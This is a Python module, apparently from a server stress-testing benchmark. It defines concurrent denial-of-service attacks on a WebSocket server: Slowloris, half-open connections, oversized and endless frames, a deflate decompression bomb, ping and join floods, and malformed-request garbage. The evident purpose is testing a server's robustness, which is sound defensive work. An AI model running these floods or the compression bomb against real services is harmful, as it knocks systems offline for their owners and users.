"""The attacks, one class each. Each attack is repeated by several clients at a time."""

from __future__ import annotations

import asyncio
import json
import zlib
from typing import ClassVar

from bench.attack.attack import Attack
from bench.attack.effort_attacks import Comebacks, FanOut, Moves, Rosters, SlowTargets
from bench.attack.http_attacks import DeepPaths, LogVolume, RefusedHandshakes, Requests, Visits
from bench.attack.memory_attacks import Away, Unread, UnreadPongs
from bench.attack.raw_client import (
    BINARY,
    COMPRESSED,
    FINAL,
    PING,
    TEXT,
    RawClient,
    frame,
    frame_header,
    handshake_request,
)

DEFLATE = "Sec-WebSocket-Extensions: permessage-deflate"
ZEROS = 64 * 2**20
"""Size of the inflated bomb, in bytes."""


class Slowloris(Attack):
    """Handshakes that are sent byte by byte."""

    name, about = "slowloris", "handshakes sent byte by byte, never completed"
    clients, quick_clients = 500, 50

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.open(self._target)
        try:
            await client.send_slowly(handshake_request(self._target.port)[:-2] + b"X: y" * 1000, 0.2, self._random)
        finally:
            client.close()


class HalfOpen(Attack):
    """Connections that send nothing."""

    name, about = "half-open", "thousands of connections that send nothing"
    clients, quick_clients = 5000, 500

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.open(self._target)
        try:
            await client.wait_until_closed()
        finally:
            client.close()


class Oversized(Attack):
    """Frames that announce a huge payload."""

    name, about = "oversized", "frames that announce 1 MiB to 2^63 bytes"

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        try:
            size = self._random.choice((2**20, 2**31, 2**62, 2**63 - 1))
            await client.send(frame_header(size))
            for _ in range(16):
                await client.send(b"x" * 65_536)
            await client.wait_until_closed()
        finally:
            client.close()


class Endless(Attack):
    """Messages of many fragments that never end."""

    name, about = "endless", "messages in fragments of a byte or 16 KiB that never end"

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        try:
            piece = frame(b"x" * self._random.choice((0, 1, 16_384)), 0)
            await client.send(frame(b"[", TEXT))
            while True:
                await client.send(piece * max(1, 4096 // len(piece)))
        finally:
            client.close()


class ByteByByte(Attack):
    """Frames that are sent in single bytes."""

    name, about = "byte-by-byte", "messages of 64 KiB sent in single bytes, a packet each"

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        try:
            await client.send_slowly(frame(b" " * 65_000), 0.001, self._random)
        finally:
            client.close()


class Bomb(Attack):
    """Compressed messages that inflate to many times their size."""

    name, about = "bomb", f"compressed messages of 64 KiB that inflate to {ZEROS // 2**20} MiB"
    clients, quick_clients = 8, 4
    _packed: ClassVar[bytes] = b""

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target, DEFLATE)
        try:
            await client.send(frame(self._bomb(), FINAL | COMPRESSED | TEXT))
            await client.wait_until_closed()
        finally:
            client.close()

    @classmethod
    def _bomb(cls) -> bytes:
        if not cls._packed:
            packer = zlib.compressobj(9, zlib.DEFLATED, -15)
            packed = packer.compress(bytes(ZEROS)) + packer.flush(zlib.Z_SYNC_FLUSH)
            cls._packed = packed.removesuffix(b"\x00\x00\xff\xff")
        return cls._packed


class Joins(Attack):
    """Joins and leaves, each of a new room and peer id."""

    name, about = "joins", "joins and leaves as fast as possible, each of a new room and peer id"

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        reading = asyncio.ensure_future(client.wait_until_closed())
        try:
            for _ in range(200):
                room, peer = f"{self._random.random()}", f"{self._random.random()}"
                join = {"type": "join", "room": room, "payload": {"peer_id": peer}}
                leave = {"type": "leave", "room": room}
                await client.send(frame(json.dumps(join).encode()) + frame(json.dumps(leave).encode()))
        finally:
            reading.cancel()
            client.close()


class Rejoins(Attack):
    """Connections that join a crowded room and then drop."""

    name, about = (
        "comings-and-goings",
        "connections that join one room and drop, so that it fills with detached sessions",
    )

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        try:
            join = {"type": "join", "room": "crowd", "payload": {"peer_id": f"{self._random.random()}"}}
            await client.send(frame(json.dumps(join).encode()))
            await client.receive()
        finally:
            client.close()


class BadMessages(Attack):
    """Invalid messages."""

    name, about = "bad-messages", "invalid messages until the server closes the connection, and again"
    words: ClassVar = (b"", b"{", b"[" * 5000, b"\xff", b'{"type":"join","room":1}', b'{"type":"x"}', b"9" * 60_000)

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        try:
            for _ in range(20):
                await client.send(frame(self._random.choice(self.words)))
            await client.wait_until_closed()
        finally:
            client.close()


class Pings(Attack):
    """Pings whose pongs are never read."""

    name, about = "pings", "pings as fast as possible, whose pongs are never read"

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        try:
            block = frame(b"x" * 125, FINAL | PING) * 100
            for _ in range(1000):
                await client.send(block)
        finally:
            client.close()


class Deaf(Attack):
    """Requests whose replies are never read."""

    name, about = "deaf", "requests as fast as possible, whose replies are never read"

    async def attack_once(self) -> None:
        """See `Attack`."""
        client = await RawClient.upgrade(self._target)
        try:
            room = f"{self._random.random()}"
            join = {"type": "join", "room": room, "payload": {"peer_id": "deaf", "metadata": {"a": "x" * 900}}}
            block = frame(json.dumps(join).encode()) * 20
            while True:
                await client.send(block)
        finally:
            client.close()


class Garbage(Attack):
    """Invalid or oversized HTTP requests, and frames of random bytes."""

    name, about = "garbage", "invalid or oversized HTTP requests, and frames of random bytes"

    async def attack_once(self) -> None:
        """See `Attack`."""
        noise = self._random.randbytes(self._random.randrange(2000))
        choice = self._random.randrange(6)
        client = await (RawClient.upgrade if choice == 0 else RawClient.open)(self._target)
        try:
            beginnings = (
                *(noise, b"GET /" + b"a" * 60_000, noise, b"\r\n"),
                *(handshake_request(self._target.port, *["X: y"] * lines) for lines in (2500, 3000)),
            )
            await client.send(beginnings[choice])
            await client.send(noise + frame(noise, FINAL | BINARY) + b"\r\n\r\n")
            await client.receive()
        finally:
            client.close()


ATTACKS: dict[str, type[Attack]] = {
    attack.name: attack
    for attack in (
        *(Slowloris, HalfOpen, Oversized, Endless, ByteByByte, Bomb),
        *(Joins, Rejoins, BadMessages, Pings, Deaf, Garbage),
        *(DeepPaths, Requests, Visits, RefusedHandshakes, LogVolume),
        *(Unread, UnreadPongs, Away),
        *(Rosters, FanOut, SlowTargets, Comebacks, Moves),
    )
}
